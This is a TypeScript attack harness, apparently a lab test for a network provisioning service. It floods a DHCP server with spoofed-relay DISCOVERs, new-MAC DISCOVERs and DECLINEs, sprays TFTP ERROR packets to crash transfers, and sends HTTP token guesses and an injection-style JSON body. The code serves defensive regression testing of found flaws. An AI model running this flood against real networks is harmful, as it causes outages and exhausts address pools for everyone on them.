// An attacker on the provisioning wire, run inside a lab namespace with
// `node --import tsx attacker.ts --server IP --seconds N` (or until SIGTERM).
// It sends, all at once and at a steady rate, what issue 8 found harmful:
//   - relayed DHCPDISCOVERs whose giaddr is an address in the served subnet
//     where no relay exists (the 90-second outage);
//   - DISCOVERs from ever new MACs (address pool and offer table);
//   - DHCPDECLINEs of addresses in the range (quarantine);
//   - TFTP read requests, octet and netascii, each answered by a spray of
//     ERROR packets at the transfer's port (the send-after-close crash), or
//     left to time out;
//   - HTTP: boot scripts for unknown MACs (discovery), events with bad
//     bodies, token guesses.
// At the end it prints one JSON line with what it sent.
import dgram from "node:dgram";
import { randomBytes } from "node:crypto";
import http from "node:http";
import { parseArgs } from "node:util";
import { MessageType, Opt, BOOTREQUEST, enc, serializeMessage } from "../../../reconciler/services/dhcp/codec.js";
import { encodeAck, encodeError, encodeRequest } from "../../../reconciler/services/tftp/packet.js";

const { values } = parseArgs({
  options: {
    server: { type: "string" },
    /** First three octets of the served subnet, e.g. 10.77.0 */
    net: { type: "string" },
    seconds: { type: "string", default: "0" },
    "dhcp-pps": { type: "string", default: "1000" },
    "tftp-concurrency": { type: "string", default: "16" },
    "http-concurrency": { type: "string", default: "16" },
    "tftp-file": { type: "string", default: "undionly.kpxe" },
    "http-port": { type: "string", default: "8080" },
  },
});
const server = values.server!;
const net = values.net!;
const sent = { relaySpoof: 0, newMac: 0, decline: 0, tftpRequests: 0, tftpErrors: 0, http: 0, httpStatus: {} as Record<string, number> };
let stopping = false;

const randomMac = (): Buffer => {
  const b = randomBytes(6);
  b[0] = 0x02; // locally administered, never a lab VM's 52:54:00
  return b;
};
const host = (): number => 2 + Math.floor(Math.random() * 197); // .2 - .198: no relay lives there

function dhcp(type: number, chaddr: Buffer, extra: { giaddr?: string; options?: Array<[number, Buffer]>; flags?: number }): Buffer {
  return serializeMessage({
    op: BOOTREQUEST,
    xid: randomBytes(4).readUInt32BE(0),
    hops: extra.giaddr ? 1 : 0,
    flags: extra.flags ?? 0,
    giaddr: extra.giaddr,
    chaddr,
    options: [[Opt.MESSAGE_TYPE, enc.u8(type)], ...(extra.options ?? [])],
  });
}

async function dhcpFlood(): Promise<void> {
  const sock = dgram.createSocket({ type: "udp4", reuseAddr: true });
  sock.on("error", () => {});
  await new Promise<void>((r) => sock.bind(68, r));
  sock.setBroadcast(true);
  const pps = Number(values["dhcp-pps"]);
  const perTick = Math.max(1, Math.round(pps / 100));
  // A few MACs for the spoofed relays, so the server has an offer for each
  // of them to send (to an address where nobody answers ARP); new MACs
  // only trickle in, after them, so the range is not empty from the start.
  const spoofMacs = Array.from({ length: 16 }, randomMac);
  const start = Date.now();
  let tick = 0;
  while (!stopping) {
    tick++;
    for (let i = 0; i < perTick; i++) {
      const r = Math.random();
      if (r < 0.9) {
        // A relay that does not exist: the server must not answer to it at the expense of everyone else.
        sock.send(dhcp(MessageType.DISCOVER, spoofMacs[i % spoofMacs.length]!, { giaddr: `${net}.${host()}` }), 67, server);
        sent.relaySpoof++;
      } else {
        const ip = `${net}.${200 + Math.floor(Math.random() * 50)}`;
        sock.send(dhcp(MessageType.DECLINE, randomMac(), { options: [[Opt.REQUESTED_IP, enc.ip(ip)], [Opt.SERVER_ID, enc.ip(server)]] }), 67, server);
        sent.decline++;
      }
    }
    if (Date.now() - start > 2000 && tick % 5 === 0) {
      sock.send(dhcp(MessageType.DISCOVER, randomMac(), { flags: 0x8000 }), 67, "255.255.255.255");
      sent.newMac++;
    }
    await new Promise((r) => setTimeout(r, 10));
  }
  sock.close();
}

/** One TFTP read: on the first DATA, a spray of ERRORs at the transfer's port; every third one is left to time out. */
function tftpOnce(n: number): Promise<void> {
  return new Promise((resolve) => {
    const sock = dgram.createSocket("udp4");
    const mode = n % 2 === 0 ? "octet" : "netascii";
    const abandon = n % 3 === 0;
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      sock.close();
      resolve();
    };
    const timer = setTimeout(finish, abandon ? 3000 : 1500);
    sock.on("error", finish);
    sock.on("message", (msg, rinfo) => {
      if (abandon || done) return;
      // After the OACK, ACK 0 so that data is on its way, then the spray.
      if (msg.readUInt16BE(0) === 6) sock.send(encodeAck(0), rinfo.port, rinfo.address);
      for (let i = 0; i < 50; i++) sock.send(encodeError(0, "go away"), rinfo.port, rinfo.address);
      sent.tftpErrors += 50;
      setTimeout(finish, 20);
    });
    sock.send(encodeRequest("RRQ", values["tftp-file"]!, mode, [{ name: "blksize", value: "1468" }]), 69, server);
    sent.tftpRequests++;
  });
}

async function tftpFlood(): Promise<void> {
  let n = 0;
  const worker = async () => {
    while (!stopping) await tftpOnce(n++);
  };
  await Promise.all(Array.from({ length: Number(values["tftp-concurrency"]) }, worker));
}

const agent = new http.Agent({ keepAlive: true, maxSockets: Number(values["http-concurrency"]) });

function request(method: string, path: string, body?: string, contentType = "application/json"): Promise<void> {
  return new Promise((resolve) => {
    const req = http.request(
      { host: server, port: Number(values["http-port"]), method, path, agent, timeout: 5000, headers: body ? { "content-type": contentType } : {} },
      (res) => {
        sent.httpStatus[res.statusCode ?? 0] = (sent.httpStatus[res.statusCode ?? 0] ?? 0) + 1;
        res.resume();
        res.on("end", resolve);
        res.on("error", () => resolve());
      },
    );
    req.on("timeout", () => req.destroy());
    req.on("error", () => {
      sent.httpStatus.error = (sent.httpStatus.error ?? 0) + 1;
      resolve();
    });
    req.end(body);
    sent.http++;
  });
}

async function httpFlood(): Promise<void> {
  const mac = () => [...randomMac()].map((b) => b.toString(16).padStart(2, "0")).join("-");
  const attacks: Array<() => Promise<void>> = [
    () => request("GET", `/boot/${mac()}.ipxe`),
    () => request("POST", `/m/node01/${randomBytes(16).toString("hex")}/events`, JSON.stringify({ phase: "Ready" })),
    () => request("POST", "/m/node01/events", JSON.stringify({ phase: { $gt: "" } })),
    () => request("POST", "/m/node01/events", "{not json", "application/json"),
    () => request("GET", `/m/node01/${randomBytes(16).toString("hex")}/files/install.cfg`),
    () => request("GET", "/api/v1/machines"),
  ];
  let i = 0;
  const worker = async () => {
    while (!stopping) await attacks[i++ % attacks.length]!();
  };
  await Promise.all(Array.from({ length: Number(values["http-concurrency"]) }, worker));
}

process.on("SIGTERM", () => (stopping = true));
const seconds = Number(values.seconds);
if (seconds > 0) setTimeout(() => (stopping = true), seconds * 1000);
process.stdout.write(JSON.stringify({ started: true }) + "\n");
await Promise.all([dhcpFlood(), tftpFlood(), httpFlood()]);
agent.destroy();
process.stdout.write(JSON.stringify(sent) + "\n");
